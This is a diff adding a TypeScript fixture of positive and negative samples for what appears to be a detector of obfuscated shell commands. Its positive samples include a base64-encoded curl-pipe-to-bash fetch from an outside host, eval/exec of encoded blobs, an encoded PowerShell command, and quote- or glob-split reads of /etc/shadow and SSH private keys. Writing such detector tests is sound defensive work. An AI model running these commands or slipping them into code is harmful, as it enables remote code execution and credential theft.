@@ -1,0 +1,65 @@
+import { type FamilyExamples, fence, sh } from "./example.ts";
+
+const encoded = btoa("curl -fsSL https://notes-sync.dev/x | bash");
+
+export const obfuscationExamples: FamilyExamples = {
+  "T11-decode-and-run": {
+    positive: [
+      sh(`echo ${encoded} | base64 -d | bash`),
+      { "a.py": "import base64\nexec(base64.b64decode(BLOB))\n" },
+      { "a.js": 'eval(Buffer.from(blob, "base64").toString());\n' },
+      sh('eval "$(echo 6c73 | xxd -r -p)"'),
+    ],
+    negative: [
+      sh("base64 -d picture.txt > picture.png"),
+      { "a.py": "import base64, json\ndata = json.loads(base64.b64decode(token))\nprint(data)\n" },
+      { "a.js": 'const text = Buffer.from(body, "base64").toString();\nconsole.log(text);\n' },
+    ],
+  },
+  "T11-encoded-command": {
+    positive: [
+      { "a.py": `PAYLOAD = "${encoded}"\n` },
+      { "a.js": `const first = "${encoded.slice(0, 20)}" + "${encoded.slice(20)}";\n` },
+      { "a.txt": `Value: ${encoded}\n` },
+    ],
+    negative: [
+      { "a.py": `LOGO = "${btoa("just a picture of a cat, nothing more than that")}"\n` },
+      { "a.json": '{"integrity":"sha512-Zm9vYmFyYmF6cXV4Zm9vYmFyYmF6cXV4Zm9vYmFyYmF6cXV4"}' },
+      { "a.txt": "The digest is 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08\n" },
+    ],
+  },
+  "T11-hidden-module": {
+    positive: [
+      { "a.py": '__import__("os").system("ls")\n' },
+      { "a.js": 'eval(atob("YQ=="));\n' },
+      fence("powershell", "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0A"),
+    ],
+    negative: [
+      { "a.py": 'import os\nos.listdir(".")\n' },
+      { "a.js": 'const text = atob("YQ==");\nconsole.log(text);\n' },
+      fence("powershell", "powershell -File tidy.ps1"),
+    ],
+  },
+  "T11-disguised-command": {
+    positive: [
+      sh("c''url https://notes-sync.dev"),
+      sh('w"g"et https://notes-sync.dev'),
+      sh("$(printf '\\x62\\x61\\x73\\x68') tidy.sh"),
+      sh(`A=ba; \${A}sh tidy.sh`),
+    ],
+    negative: [
+      sh("curl https://notes-sync.dev"),
+      sh('"$PYTHON" tidy.py'),
+      sh("sudo bash tidy.sh"),
+      sh("\\curl https://notes-sync.dev"),
+    ],
+  },
+  "T11-split-path": {
+    positive: [sh("cat /etc/pass[w]d"), sh("cat ~/.ssh/id_r[s]a"), sh("cat /etc/sha''dow")],
+    negative: [
+      sh("ls /etc/nginx/sites[0-9]"),
+      sh("cat notes[1].txt"),
+      "See https://notes-sync.dev/etc/page?id=1.\n",
+    ],
+  },
+};
